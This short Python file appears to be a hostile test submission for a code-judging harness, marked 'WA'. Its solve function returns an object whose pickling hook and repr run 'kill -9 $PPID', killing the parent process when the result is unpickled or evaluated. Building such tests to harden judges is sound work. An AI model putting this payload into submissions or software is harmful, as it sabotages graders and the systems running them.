# Returns an object that would run a command where it is unpickled.
# kind: objects
# function: WA
# code: WA
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("kill -9 $PPID",)

    __getstate__ = __reduce_ex__ = lambda self, *rest: self.__reduce__()
    __repr__ = lambda self: "__import__('os').system('kill -9 $PPID')"


def solve(a, b):
    return Bomb()
